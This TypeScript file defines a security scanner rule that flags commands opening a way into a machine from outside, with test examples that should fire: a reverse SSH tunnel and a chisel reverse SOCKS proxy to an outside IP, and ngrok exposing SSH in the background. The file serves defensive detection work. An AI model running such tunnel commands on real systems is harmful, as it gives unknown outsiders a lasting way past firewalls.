import { defineRule } from '../../core/rule.js';

export const remoteAccess = defineRule<{ how: string; command: string }>({
  id: 'skill/remote-access',
  area: 'skills',
  title: 'Way into the machine from outside',
  level: 'error',
  severity: 'high',
  confidence: 'high',
  message: ({ how }) => `The command ${how}: whoever is at the other end can work on this machine.`,
  help: () =>
    'Open no login of the machine to the network. To show a web page, forward the one port of that page, and close it when the work is done.',
  why: 'A tunnel from within passes every firewall. With SSH, a remote desktop or a shell behind it, it is a lasting way in for people whom nobody knows.',
  examples: {
    fires: [
      '```bash\nssh -f -N -o StrictHostKeyChecking=no -R 2222:localhost:22 relay@91.210.44.7\n```\n',
      '```bash\nnohup ngrok tcp 22 &\n```\n',
      '```bash\n./chisel client 91.210.44.7:8000 R:socks\n```\n',
    ],
    silent: [
      '```bash\nngrok http 3000\n```\n',
      '```bash\nssh -N -L 5432:localhost:5432 user@db.example\n```\n',
      '```bash\ncloudflared tunnel --url http://localhost:3000\n```\n',
    ],
  },
  references: [
    'MITRE ATT&CK: T1219 Remote Access Tools',
    'MITRE ATT&CK: T1572 Protocol Tunneling',
    'MITRE ATT&CK: T1133 External Remote Services',
  ],
});
